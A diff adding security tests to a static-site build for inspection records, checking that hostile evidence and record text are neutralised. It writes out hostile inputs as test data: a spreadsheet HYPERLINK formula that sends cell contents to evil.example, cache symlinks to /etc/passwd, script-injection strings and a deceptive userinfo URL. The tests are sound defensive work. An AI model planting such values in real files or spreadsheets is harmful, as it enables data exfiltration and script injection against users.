@@ -9,7 +9,9 @@ a shallow clone, hostile record text, English, and records with errors.
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 import os
 import re
@@ -22,11 +24,15 @@ from decimal import Decimal
 from html import unescape
 from pathlib import Path
 
+import hostile
 import openpyxl
 import pytest
 import yaml
 from gitrepo import commit_all, git, init
+from PIL import Image
 from sitebuild import Document, build, kaoping, make_project, parse
+
+from scoring.site.data import safe_repository_url
 
 REPOSITORY = "https://github.com/example/performance"
 SUBJECT = "records/2026-05/inspections/2026-05-14-bike-shed.yaml"
@@ -320,6 +326,65 @@ def test_shallow_clone_is_a_build_warning(tmp_path: Path) -> None:
     assert build(clone).returncode == 0
 
 
+def _guarded_build(project: Path) -> subprocess.CompletedProcess[str]:
+    """``mkdocs build --strict`` under 1 GiB of address space and a timeout."""
+    return subprocess.run(
+        [sys.executable, "-m", "mkdocs", "build", "--strict"],
+        cwd=project,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        preexec_fn=hostile.limit_memory,
+    )
+
+
+def test_hostile_evidence_and_cache_are_not_published(tmp_path: Path) -> None:
+    """A PDF with /OpenAction JavaScript, and a cache committed as links to /etc/passwd
+    and /dev/zero: the build passes, publishes neither, and reads neither."""
+    project = make_project(tmp_path / "hostile")
+    evidence = project / "records/2026-10/evidence"
+    (evidence / "notice.pdf").write_bytes(hostile.PDF_WITH_SCRIPT)
+    _replace(
+        project / "records/2026-10/inspections/2026-10-14-fire-lane.yaml",
+        "evidence: [fire-lane-1.jpg]",
+        "evidence: [fire-lane-1.jpg, notice.pdf]",
+    )
+    pdf_digest = hashlib.sha256(hostile.PDF_WITH_SCRIPT).hexdigest()
+    photo_digest = hashlib.sha256((evidence / "fire-lane-1.jpg").read_bytes()).hexdigest()
+    links = {
+        f".cache/kaoping/photos/{photo_digest}-1.jpg": "/etc/passwd",
+        f".cache/kaoping/photos/{photo_digest}-2.jpg": "/etc/passwd",
+        f".cache/kaoping/photos/{pdf_digest}-1.pdf": "/etc/passwd",
+        ".cache/kaoping/photos/unreadable-1.png": "/etc/passwd",
+        ".cache/kaoping/validate.pickle": "/dev/zero",
+    }
+    for path, target in links.items():
+        (project / path).parent.mkdir(parents=True, exist_ok=True)
+        (project / path).symlink_to(target)
+    (project / ".gitignore").write_text(".cache/\npublic/\n", encoding="utf-8")
+    commit_all(project, "Evidence")
+    git(project, "add", "-f", ".cache")
+    git(project, "commit", "-q", "-m", "The cache, force-added")
+    result = _guarded_build(project)
+    assert result.returncode == 0, result.stderr[-3000:]
+    public = project / "public"
+    assert not list(public.rglob("*.pdf"))
+    for path in public.rglob("*"):
+        if path.is_file():
+            data = path.read_bytes()
+            assert b"root:x:0:0" not in data and b"app.alert" not in data, path
+    with Image.open(public / "months/2026-10/evidence/fire-lane-1.jpg") as image:
+        assert image.format == "JPEG"
+    month = page(project, "months/2026-10")
+    kept = [e for e in month.elements if "kp-kept" in e.attrs.get("class", "")]
+    assert kept and kept[0].attrs["data-sha256"] == pdf_digest
+    assert "notice.pdf" in kept[0].text and pdf_digest in kept[0].text
+    assert "原件保存在仓库中" in kept[0].text
+    assert not [link for link in month.links() if "notice.pdf" in link]
+    listing = (public / "downloads/evidence.sha256").read_text(encoding="utf-8")
+    assert f"{pdf_digest}  2026-10/evidence/notice.pdf\n" in listing
+
+
 def test_record_text_stays_inert(tmp_path: Path) -> None:
     project = make_project(tmp_path / "hostile", repository=False)
     hostile = '"<script>alert(1)</script></title><img src=x onerror=alert(2)>{{ 7*7 }} **b** [x](javascript:alert(3))"'
@@ -327,6 +392,12 @@ def test_record_text_stays_inert(tmp_path: Path) -> None:
     right_to_left = "عربي مرحبا עברית"
     _replace(
         project / "records/org.yaml", "{id: admin, name: 行政科,", f"{{id: admin, name: {hostile},"
+    )
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"保卫处")'
+    _replace(
+        project / "records/org.yaml",
+        "{id: security, name: 保卫处,",
+        f"{{id: security, name: '{formula}',",
     )
     _replace(
         project / "records/2026-10/assessments/admin.yaml",
@@ -352,20 +423,43 @@ def test_record_text_stays_inert(tmp_path: Path) -> None:
     assert right_to_left in month.text and long_word in month.text and "{% raw %}" in month.text
     title = next(e for e in page(project, "departments/admin").elements if e.tag == "title")
     assert title.text.startswith("<script>alert(1)</script></title>")
+    # the downloads write a name that a spreadsheet would read as a formula as text
+    downloads = project / "public/downloads"
+    rows = csv.DictReader(io.StringIO((downloads / "results.csv").read_text(encoding="utf-8")))
+    names = {row["name"] for row in rows if row["department"] == "security"}
+    assert names == {"'" + formula}
+    book = openpyxl.load_workbook(downloads / "results.xlsx")
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert "'" + formula in {cell.value for cell in cells}
 
 
-def test_unsafe_repository_url_is_refused(tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    ("url", "code", "shown"),
+    [
+        ("javascript:alert(1)//", "repository-url", "javascript:alert"),
+        (
+            "https://github.com@evil.example/example/performance",
+            "repository-userinfo",
+            "evil.example",
+        ),
+    ],
+)
+def test_unsafe_repository_url_is_refused(tmp_path: Path, url: str, code: str, shown: str) -> None:
     project = make_project(tmp_path / "unsafe")
-    _replace(
-        project / "records/org.yaml",
-        f"repository: {REPOSITORY}",
-        'repository: "javascript:alert(1)//"',
-    )
+    _replace(project / "records/org.yaml", f"repository: {REPOSITORY}", f'repository: "{url}"')
     commit_all(project, "Unsafe repository URL")
     result = build(project)
-    assert result.returncode != 0 and "repository-url" in result.stderr  # validation refuses it
+    assert result.returncode != 0 and code in result.stderr  # validation refuses it
     for html in (project / "public").rglob("*.html"):
-        assert "javascript:alert" not in html.read_text(encoding="utf-8").replace("&#58;", ":")
+        assert shown not in html.read_text(encoding="utf-8").replace("&#58;", ":")
+
+
+def test_site_builds_no_link_from_an_invalid_repository_url() -> None:
+    assert safe_repository_url("https://github.com/example/performance.git/") == REPOSITORY
+    for url in ("https://github.com@evil.example/x", "https://github.com\\@evil.example/x",
+                "javascript:alert(1)//", "https://github.com/x?y", None, ""):  # fmt: skip
+        assert safe_repository_url(url) is None, url
 
 
 def test_english_site(tmp_path: Path) -> None:
